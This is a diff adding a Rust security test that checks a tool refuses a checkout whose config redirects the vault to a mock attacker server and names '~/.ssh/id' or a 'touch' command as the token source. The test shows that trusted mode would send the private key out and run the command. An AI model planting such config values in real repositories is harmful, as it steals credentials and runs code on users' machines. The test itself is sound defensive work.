@@ -215,6 +215,42 @@ fn an_id_file_that_a_checkout_points_to_a_private_key_is_not_read() {
 }
 
 #[test]
+fn a_token_file_or_command_that_a_checkout_names_is_neither_read_nor_run() {
+    let before = "{method: approle, role_id_env: JAFFLE_PRODUCTION_ROLE_ID, secret_id_env: JAFFLE_PRODUCTION_SECRET_ID}";
+    for token in ["{file: ~/.ssh/id}", "{command: [touch, MARK]}"] {
+        let lab = Lab::new();
+        let key = lab.home.home().join(".ssh/id");
+        std::fs::create_dir(key.parent().expect("a directory")).expect("made");
+        std::fs::write(&key, "private-key-material\n").expect("written");
+        run_untold(&lab, &["trust", "--yes"]).success();
+        let attacker = Attacker::new();
+        let mark = lab.home.home().join("mark");
+        let token = token.replace("MARK", &mark.display().to_string());
+        edit(
+            &lab,
+            "version: 1",
+            &format!("version: 1\nvault: {{address: '{}'}}", attacker.address()),
+        );
+        edit(
+            &lab,
+            before,
+            &format!("{{method: jwt, role: dbt, token: {token}}}"),
+        );
+        let said = refused(&lab, "not_trusted");
+        assert!(!said.contains("private-key-material"), "{said}");
+        attacker.assert_nobody_came();
+        assert!(!mark.exists(), "{token} was run");
+        // Where every checkout is trusted both are obeyed: this is what would have happened.
+        let running = Running::start(lab.command(&EXEC));
+        if token.contains("file") {
+            assert!(attacker.take().contains("private-key-material"));
+        }
+        let _ = running.end().code(125);
+        assert_eq!(mark.exists(), token.contains("command"));
+    }
+}
+
+#[test]
 fn a_trusted_hash_in_the_environment_is_enough_and_another_is_not() {
     let lab = Lab::new();
     let hash = hash(&lab);
